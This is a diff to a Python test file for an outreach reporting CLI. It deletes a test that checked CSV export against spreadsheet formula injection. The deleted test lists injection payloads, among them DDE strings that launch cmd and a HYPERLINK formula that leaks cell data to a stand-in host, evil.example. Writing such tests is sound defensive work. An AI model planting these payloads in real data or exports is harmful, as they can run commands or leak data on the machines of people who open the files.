@@ -9,15 +9,10 @@ import os
 
 import pytest
 from click.testing import CliRunner
-from sqlalchemy import update
-from sqlalchemy.orm import Session
 
 from outreach.cli import main
-from outreach.core.csv_export import FORMULA_START
-from outreach.core.models import Candidate
 from outreach.service.runtime import Runtime
 from tests import synthetic_history as synth
-from tests.helpers import add_candidate
 
 
 @pytest.fixture
@@ -147,35 +142,3 @@ def test_month_is_offered_and_a_wrong_bucket_named(runtime: Runtime) -> None:
     env = {"OUTREACH_DATABASE_URL": runtime.settings.database_url}
     result = CliRunner().invoke(main, ["report", "--bucket", "fortnight"], env=env)
     assert result.exit_code == 2 and "'day', 'week', 'month'" in result.output
-
-
-def test_csv_neutralises_formulas_in_text_cells(runtime: Runtime) -> None:
-    """A candidate's source is typed by people and becomes a group of the report: opened in a spreadsheet, it must
-    not run (outreach.core.csv_export)."""
-    payloads = {
-        "c-dde": "+1+cmd|' /C calc'!A0",
-        "c-link": '=HYPERLINK("https://evil.example/?leak="&A1,"open")',
-        "c-minus": "-2+3",
-        "c-at": "@SUM(1+1)*cmd|' /C calc'!A0",
-        "c-wide": "＝1+1",
-        "c-space": " =1+1",
-        "c-break": "linkedin\r=1+1",
-    }
-    for external_id, source in payloads.items():
-        add_candidate(runtime, external_id, source=source)
-    with Session(runtime.engine) as session, session.begin():
-        # The API strips spaces; a row written some other way may still start with one.
-        session.execute(update(Candidate).where(Candidate.external_id == "c-space").values(source=" =1+1"))
-    rows = list(csv.reader(io.StringIO(run(runtime, "--by", "source", "--format", "csv"), newline="")))
-    assert rows[0] == ["section", "group", "period", "metric", "value"]
-    assert {len(row) for row in rows} == {5}  # a line break inside a source stays inside its cell
-    assert {row[1] for row in rows if row[0] == "funnel"} == {
-        "all",
-        "linkedin\r=1+1",
-        *("'" + p for p in payloads.values() if not p.startswith("linkedin")),
-    }
-    for row in rows:
-        for cell in row:
-            assert cell.lstrip()[:1] not in FORMULA_START, row
-    values = [row[4] for row in rows[1:] if row[4]]
-    assert values and all(float(value) >= 0 for value in values)  # numbers stay numbers
